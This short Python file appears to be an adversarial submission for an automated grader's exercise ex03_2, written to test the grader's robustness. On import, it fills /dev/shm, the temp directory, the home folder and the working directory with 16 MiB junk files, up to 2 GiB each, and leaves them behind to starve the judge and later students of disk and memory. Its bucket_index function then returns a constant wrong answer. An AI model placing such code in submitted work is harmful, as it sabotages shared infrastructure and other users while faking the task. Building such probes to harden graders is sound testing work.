# disk hog in the answer cell (kernel and judge's student child): 16 MiB files into /tmp, /dev/shm, the home folder and the working folder until the first write fails (2 GiB each at most), left behind for the items (and students) graded after it; /tmp and /dev/shm are tmpfs, so their pages count against the box's memory, the judge's own included; the answer is wrong
# target: ex03_2
import os
import tempfile

block = b"\x02" * (16 << 20)
for where in ("/dev/shm", tempfile.gettempdir(), os.path.expanduser("~"), os.getcwd()):
    for k in range(128):
        try:
            with open(os.path.join(where, f"fill{os.getpid()}_{k}.bin"), "wb") as f:
                f.write(block)
        except OSError:
            break


def bucket_index(length, edges):
    return 0
